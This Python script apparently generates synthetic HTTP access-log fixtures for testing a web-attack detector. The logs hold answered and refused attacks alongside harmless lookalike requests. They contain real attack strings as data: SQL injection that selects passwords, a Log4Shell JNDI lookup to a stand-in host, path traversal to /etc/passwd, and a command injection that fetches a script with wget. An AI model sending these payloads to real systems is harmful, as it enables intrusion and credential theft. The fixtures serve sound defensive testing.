"""Makes the evidence of these cases.

`python -m tests.cases.access_web_attack.make` from the root of the project writes it anew.
"""

from __future__ import annotations

from pathlib import Path

from tests.cases.evidence import write

SOURCE, SERVER = "203.0.113.40", "10.2.0.80"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"


def make(root: Path) -> None:
    """Write all evidence under ``root``."""
    pages = (
        ("/item?id=3%27", 141),
        ("/item?id=3%27+and+%271%27%3D%271", 1_488),
        ("/item?id=-1%27+union+select+user%2Cpassword+from+accounts%23", 3_797),
    )
    write(
        root / "injection_that_is_answered",
        "http_activity",
        [request(10.0 * n, uri, size=size) for n, (uri, size) in enumerate(pages)],
    )
    write(
        root / "injection_at_two_places",
        "http_activity",
        [
            request(10.0 * n, uri.replace("/item", place), size=size)
            for place in ("/item", "/list")
            for n, (uri, size) in enumerate(pages)
        ],
    )
    write(
        root / "message_instead_of_a_page",
        "http_activity",
        [
            request(10.0 * n, uri, size=size)
            for n, (uri, size) in enumerate(
                (
                    ("/item?id=3%27+or+%270%27%3D%270", 1_500),
                    ("/item?id=3%27+or+0%3D0+union+select+null%2Cversion()", 139),
                    ("/item?id=3%27+or+0%3D0+union+select+null%2Cversion()+%23", 1_543),
                )
            )
        ],
    )
    write(root / "dashboards_and_query_languages", "http_activity", dashboards())
    write(root / "search_that_echoes", "http_activity", echoes())
    write(root / "many_kinds_refused", "http_activity", scan())
    write(
        root / "lookup_in_a_field",
        "http_activity",
        [request(0.0, "/", user_agent="${${lower:j}ndi:ldap://198.51.100.7:1389/x}")],
    )
    write(root / "file_of_the_system_is_sent", "http_activity", traversal(200, 1_800))
    write(root / "traversal_refused", "http_activity", traversal(404, 200))
    write(
        root / "one_page_for_every_path",
        "http_activity",
        [*traversal(200, 1_800), request(60.0, "/no-such-page", size=1_800)],
    )
    write(root / "people_write_about_sql", "http_activity", people())


def request(t: float, uri: str, status: int = 200, **columns: object) -> dict[str, object]:
    """One request with its answer."""
    size = columns.pop("size", 500)
    return {
        "time": t,
        "src_ip": SOURCE,
        "dst_ip": SERVER,
        "dst_port": 80,
        "method": "GET",
        "host": "shop.example",
        "uri": uri,
        "user_agent": BROWSER,
        "status_code": status,
        "response_body_bytes": size,
        **columns,
    }


def scan() -> list[dict[str, object]]:
    """What a scanner tries, all of it refused."""
    tries = (
        "/a.php?f=%252e%252e/%252e%252e/%252e%252e/etc/passwd",
        "/ping.cgi?host=127.0.0.1%3Bwget%20http://203.0.113.40/x.sh",
        "/?s=/index/think/app/invokefunction&function=call_user_func_array",
        "/index.php?page=php://filter/convert.base64-encode/resource=index",
        "/?q=%24%7Bjndi:ldap://203.0.113.40/a%7D",
        "/list?o=1+union+all+select+null,null",
    )
    return [request(0.5 * n, uri, 404) for n, uri in enumerate(tries * 4)]


def dashboards() -> list[dict[str, object]]:
    """Tools whose addresses hold queries of a language of their own; every answer is another."""
    queries = (
        "/query?db=m&q=select+mean(v)+from+cpu+where+%22host%22+=+%27a{n}%27+and+%22cpu%22+=+%27b%27",
        "/rest/search?jql=project+=+%22abc{n}%22+and+status+=+%22open%22",
        "/rest/content?cql=space+=+%22ops%22+and+type+=+%22page{n}%22",
        "/pma/index.php?route=/table&db=information_schema&table=T{n}",
        "/ch?query=select+1+union+all+select+{n}",
    )
    return [
        request(5.0 * n, queries[n % 5].format(n=n), size=900 + 371 * n, src_ip="10.2.0.17")
        for n in range(40)
    ]


def echoes() -> list[dict[str, object]]:
    """A scanner at a search page that repeats what was searched for, three times."""
    words = [f"x%27+or+%27{'1' * n}%27=%27{'1' * n}" for n in range(1, 13)]
    return [
        request(0.0, "/search?q=shoes", size=2_000),
        *(
            request(n, f"/search?q={word}", size=2_000 + 3 * (2 * n))
            for n, word in enumerate(words, 1)
        ),
    ]


def traversal(status: int, size: int) -> list[dict[str, object]]:
    """One climb to the file of users."""
    return [request(0.0, "/get?f=..%2f..%2f..%2f..%2fetc%2fpasswd", status, size=size)]


def people() -> list[dict[str, object]]:
    """Searches, names with apostrophes, shortened paths, advertisements."""
    uris = (
        "/search?q=select+a+phone+from+our+shop",
        "/search?q=union+of+students",
        "/user?name=O%27Brien&town=St+John%27s",
        "/static/../img/logo.png",
        "/ad;id=7;cat=sport?u=http%3A%2F%2Fnews.example%2Fa%3Fb%3D1",
        "/track?d=%7B%22a%22%3A1%7D&x=%AE%E9",
        "/data?img=data:image/png;base64,iVBORw0KGgo=",
        "/forum?title=how+to+use+curl+and+wget",
    )
    return [request(3.0 * n, uri) for n, uri in enumerate(uris)]


if __name__ == "__main__":
    make(Path(__file__).parent)
